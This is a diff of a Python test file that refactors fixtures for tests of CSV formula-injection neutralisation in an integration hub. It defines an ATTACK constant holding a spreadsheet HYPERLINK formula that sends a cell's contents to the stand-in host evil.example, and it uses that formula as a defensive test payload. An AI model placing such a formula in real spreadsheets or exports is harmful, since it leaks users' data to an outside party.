@@ -16,8 +16,8 @@ from causeway.config import parse_config
 from causeway.config.systems import FilesSystem
 from causeway.connectors.files.exports import OrderStatus, order_status_csv, stock_csv
 from causeway.connectors.files.safe_csv import neutralise, restore
-from causeway.flows.files_exchange import FilesExchange
 from causeway.hub import Hub
+from tests.unit.files_support import drop_whole, exchange, hub_config
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Track")'
 QUOTED_ATTACK = '"' + ATTACK.replace('"', '""') + '"'  # as a CSV cell
@@ -26,32 +26,13 @@ HEADER = "order_number,ordered_at,sku,quantity,unit_price\n"
 
 @pytest.fixture
 def hub(tmp_path: Path) -> Iterator[Hub]:
-    erp = {"type": "tryton", "url": "http://127.0.0.1:9", "database": "d", "username": "u"}
-    config = {
-        "store": {"url": f"sqlite:///{tmp_path / 'hub.db'}"},
-        "systems": {
-            "csv": {"type": "files", "folder": str(tmp_path / "drop")},
-            "erp": {**erp, "password": "p"},
-        },
-        "flows": {
-            "orders-to-erp": {"source": "csv", "target": "erp"},
-            "files-exchange": {"source": "csv", "target": "erp"},
-        },
-    }
-    running = Hub(parse_config(config, env={}))
+    running = Hub(parse_config(hub_config(tmp_path), env={}))
     yield running
     running.stop()
 
 
-def exchange(hub: Hub) -> FilesExchange:
-    flow = hub.flows["files-exchange"]
-    assert isinstance(flow, FilesExchange)
-    return flow
-
-
 def drop(folder: Path, name: str, content: str) -> None:
-    (folder / "in" / name).write_text(content)
-    (folder / "in" / f"{name}.done").touch()
+    drop_whole(folder / "in" / name, content)
 
 
 def cells(path: Path) -> list[list[str]]:
